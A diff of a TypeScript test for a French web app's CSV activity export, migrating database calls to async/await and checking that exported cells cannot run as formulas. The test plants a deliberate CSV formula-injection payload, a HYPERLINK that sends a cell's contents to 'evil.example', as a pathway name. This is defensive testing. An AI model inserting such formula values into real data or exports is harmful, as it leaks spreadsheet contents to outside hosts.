@@ -5,20 +5,18 @@ import { pathways, users } from '$lib/server/db/schema';
 import { toActor, toSessionUser } from '$lib/server/users';
 import { GET } from '../../src/routes/(app)/stats/export/+server';
 import { buildIndicatorsCsv } from '../../src/routes/(app)/stats/indicators';
-import { migratedDb } from '../support/db';
+import { migratedDb, queryOne } from '../support/db';
 
-const db = migratedDb();
+const db = await migratedDb();
 await seedDemoNetwork();
 
 type Event = Parameters<typeof GET>[0];
-const coordinator = db
-	.select()
-	.from(users)
-	.where(eq(users.email, 'coordination@demo.pluri.fr'))
-	.get()!;
+const coordinator = (await queryOne(
+	db.select().from(users).where(eq(users.email, 'coordination@demo.pluri.fr'))
+))!;
 
 async function exportAs(u: typeof coordinator): Promise<Response> {
-	const user = toSessionUser(u);
+	const user = await toSessionUser(u);
 	return GET({
 		locals: {
 			user,
@@ -31,12 +29,12 @@ async function exportAs(u: typeof coordinator): Promise<Response> {
 
 describe('the activity CSV export', () => {
 	it('is a French CSV download whose cells cannot run as formulas', async () => {
-		const visible = toSessionUser(coordinator).memberships[0]!.pathwayId;
+		const visible = (await toSessionUser(coordinator)).memberships[0]!.pathwayId;
 		// A pathway name an administrator typed, hostile on purpose.
-		db.update(pathways)
+		await db
+			.update(pathways)
 			.set({ name: '=HYPERLINK("http://evil.example/?"&A1;"RCP")' })
-			.where(eq(pathways.id, visible))
-			.run();
+			.where(eq(pathways.id, visible));
 		const response = await exportAs(coordinator);
 		expect(response.headers.get('content-type')).toBe('text/csv; charset=utf-8');
 		expect(response.headers.get('content-disposition')).toBe(
